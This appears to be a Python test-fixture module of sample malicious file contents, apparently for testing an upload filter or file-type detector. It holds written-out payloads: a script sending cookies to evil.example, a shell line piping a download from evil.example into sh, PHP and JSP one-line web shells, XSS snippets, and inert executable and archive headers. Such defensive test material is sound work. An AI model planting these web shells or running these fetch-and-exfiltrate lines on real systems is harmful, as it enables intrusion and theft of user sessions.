"""What attackers hide in files. Harmless here: nothing is ever run."""

import gzip
import io
import tarfile
import zipfile

HTML = b"<html><body onload=alert(1)>hello</body></html>"
SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"
PHP = b"<?php system($_GET['c']); ?>"
PHP_SHORT = b"<?=$_GET[0]($_POST[1]);?>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
JAVASCRIPT = b"*/=1;alert('hello');/*"
SHELL = b"#!/bin/sh\ncurl https://evil.example | sh\n"
JSP = b'<%= Runtime.getRuntime().exec(request.getParameter("c")) %>'

SCRIPTS = {
    "html": HTML,
    "script": SCRIPT,
    "php": PHP,
    "short php": PHP_SHORT,
    "svg": SVG,
    "javascript": JAVASCRIPT,
    "shell": SHELL,
    "jsp": JSP,
}


def archive(name: str = "payload.exe", content: bytes = b"MZ payload", comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as held:
        held.writestr(zipfile.ZipInfo(name), content)
        held.comment = comment
    return out.getvalue()


def tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as held:
        held.addfile(tarfile.TarInfo("payload"), io.BytesIO())
    return out.getvalue()


PROGRAM = (
    b"MZ\x90\x00\x03"
    + bytes(59)
    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
)
ELF = b"\x7fELF\x02\x01\x01" + bytes(57)
GZIP = gzip.compress(b"payload" * 20, mtime=0)
RAR = b"Rar!\x1a\x07\x01\x00" + bytes(40)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(40)
OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
FLASH = b"CWS\x0a" + bytes(40)
CLASS = b"\xca\xfe\xba\xbe\x00\x00\x00\x37" + bytes(40)
SHORTCUT = b"L\x00\x00\x00\x01\x14\x02\x00" + bytes(68)

BINARIES = {
    "zip": archive(),
    "zip with a comment": archive(comment=b"hello"),
    "jar": archive("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\n"),
    "docx": archive("[Content_Types].xml", b"<Types/>"),
    "tar": tar(),
    "gzip": GZIP,
    "rar": RAR,
    "7z": SEVEN_ZIP,
    "program": PROGRAM,
    "elf": ELF,
    "office": OFFICE,
    "flash": FLASH,
    "class": CLASS,
    "shortcut": SHORTCUT,
}
